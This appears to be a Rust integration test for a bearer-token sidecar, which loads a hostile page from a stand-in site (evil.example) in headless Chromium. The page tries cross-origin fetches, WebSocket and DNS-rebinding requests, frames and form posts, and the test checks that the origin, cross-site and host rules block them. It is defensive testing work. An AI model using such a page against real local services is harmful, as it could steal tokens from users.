//! A page in a real browser that tries to call with the token.

use std::process::Stdio;
use std::time::Duration;

use tokio::process::Command;
use tower_bearer::testing::{Answer, Api, TokenServer};

use crate::harness::{PATIENCE, Sidecar, issuer, serve, there_is};

/// Tries every kind of request that a page can make, and sends the results to the page's server.
const PAGE: &str = r#"<!doctype html><meta charset="utf-8"><title>tries</title>
<iframe name="hidden"></iframe>
<form id="form" method="post" target="hidden"><input name="a" value="b"></form>
<script>
const target = "TARGET", rebound = "REBOUND";
const run = attempt => attempt.then(value => "got " + value, error => "failed " + error.name);
const loaded = (name, attributes) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(name), attributes);
  element.onload = () => resolve("loaded");
  element.onerror = () => reject(new Error());
  setTimeout(() => resolve("silent"), 5000);
  document.body.append(element);
});
const socket = url => new Promise((resolve, reject) => {
  const socket = new WebSocket(url);
  socket.onopen = () => resolve("open");
  socket.onerror = () => reject(new Error());
});
const read = response => response.text().then(text => response.status + " " + text);
(async () => {
  const results = {
    fetch: await run(fetch(target + "/fetch").then(read)),
    preflighted: await run(fetch(target + "/put", { method: "PUT", headers: { "x-mine": "1" } }).then(read)),
    "no-cors": await run(fetch(target + "/no-cors", { mode: "no-cors" }).then(r => r.type)),
    "no-cors post": await run(fetch(target + "/post", { mode: "no-cors", method: "POST", body: "a" }).then(r => r.type)),
    beacon: await run(Promise.resolve(navigator.sendBeacon(target + "/beacon", "a"))),
    rebound: await run(fetch(rebound + "/rebound", { mode: "no-cors" }).then(r => r.type)),
    websocket: await run(socket(target.replace("http", "ws") + "/socket")),
    "rebound websocket": await run(socket(rebound.replace("http", "ws") + "/socket")),
    image: await run(loaded("img", { src: target + "/image" })),
    script: await run(loaded("script", { src: target + "/script" })),
    frame: await run(loaded("iframe", { src: target + "/frame" })),
    "rebound frame": await run(loaded("iframe", { src: rebound + "/frame" })),
    sandboxed: await run(loaded("iframe", { sandbox: "allow-scripts", srcdoc:
      `<script>fetch("${target}/null", { mode: "no-cors", method: "POST", body: "a" })<` + `/script>` })),
  };
  const form = document.getElementById("form");
  form.action = target + "/form";
  form.submit();
  await new Promise(resolve => setTimeout(resolve, 1000));
  await fetch("/done", { method: "POST", body: JSON.stringify(results) });
})();
</script>"#;

/// Opens the page at `name` in a browser, and returns its results. The browser resolves `*.example` to loopback.
async fn visit(target: &str, rebound: &str, name: &str, pages: &(TokenServer, String)) -> serde_json::Value {
    let (fake, base) = pages;
    let page = PAGE.replace("TARGET", target).replace("REBOUND", rebound);
    fake.fail(Some(Answer::raw(200, page).header("content-type", "text/html; charset=utf-8")));
    let done = || fake.requests().into_iter().filter(|request| request.uri.path() == "/done");
    let before = done().count();
    let profile = tempfile::tempdir().unwrap();
    let mut browser = Command::new("chromium")
        .args(["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"])
        .args(["--disable-background-networking", "--no-proxy-server"])
        .arg("--host-resolver-rules=MAP *.example 127.0.0.1")
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("http://{name}:{}/", base.rsplit(':').next().unwrap()))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let results = tokio::time::timeout(2 * PATIENCE, async {
        loop {
            if let Some(done) = done().nth(before) {
                return done.json();
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    })
    .await;
    browser.kill().await.unwrap();
    results.expect("the results of the page")
}

#[tokio::test]
async fn a_page_in_a_real_browser_gets_nothing_through() {
    if !there_is("chromium", &["--version"]) {
        return;
    }
    let (issuer, tokens) = issuer().await;
    let api = Api::new(issuer.ledger());
    let base = serve(api.clone()).await;
    let page = TokenServer::new();
    let pages = (page.clone(), serve(page).await);
    // One page is of another site (evil.example), and one of the same site on another port (127.0.0.1).
    for name in ["evil.example", "127.0.0.1"] {
        let sidecar = Sidecar::of(&tokens, &base, &[]).await;
        let rebound = format!("http://evil.example:{}", sidecar.port());
        let results = visit(&sidecar.base, &rebound, name, &pages).await;
        println!("{name}: {results}");
        for attempt in ["fetch", "preflighted", "websocket", "rebound websocket"] {
            assert!(results[attempt].as_str().unwrap().starts_with("failed"), "{attempt}: {results}");
        }
        // The attempts arrived, and each rule rejected some.
        for code in ["origin-rejected", "cross-site-rejected", "host-rejected"] {
            let rejected = sidecar.answered(code).await;
            println!("{name}: {code} {rejected}");
            assert!(rejected >= 2, "{code}");
        }
        assert_eq!(sidecar.answered("upstream").await, 0);
    }
    assert_eq!(api.calls().total(), 0, "{:?}", api.requests());

    // If the page's origin is allowed, the same requests succeed. So only the guard rejected them above.
    let origin = format!("http://evil.example:{}", pages.1.rsplit(':').next().unwrap());
    let sidecar = Sidecar::of(&tokens, &base, &["--allow-origin", &origin]).await;
    let results = visit(&sidecar.base, &sidecar.base, "evil.example", &pages).await;
    for attempt in ["fetch", "preflighted"] {
        assert!(results[attempt].as_str().unwrap().starts_with("got 200"), "{attempt}: {results}");
    }
    assert!(api.accepted() >= 2);
}
